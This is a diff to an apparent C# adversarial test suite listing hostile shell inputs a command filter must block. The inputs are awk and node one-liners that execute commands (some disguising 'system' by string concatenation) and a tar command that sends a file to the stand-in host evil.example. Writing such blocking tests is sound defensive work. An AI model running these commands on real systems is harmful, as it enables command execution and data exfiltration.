@@ -129,6 +129,8 @@ public sealed partial class AdversarialTests
     [InlineData("awk --source='BEGIN{system(\"id\")}'")]
     [InlineData("awk '@load \"filefuncs\"; BEGIN{}'")]
     [InlineData("awk -l filefuncs 'BEGIN{}'")]
+    [InlineData("awk 'function f(c) { } BEGIN { g = \"sys\" \"tem\"; @g(\"id\") }'")]
+    [InlineData("tar -cf evil.example:a.tar notes.txt")]
     [InlineData("awk --assign x=1 'BEGIN{system(\"id\")}'")]
     [InlineData("node --eval=require('child_process').execSync('id')")]
     [InlineData("awk '{ printf \"%s\", $0 >> \"out\" }' notes.txt")]
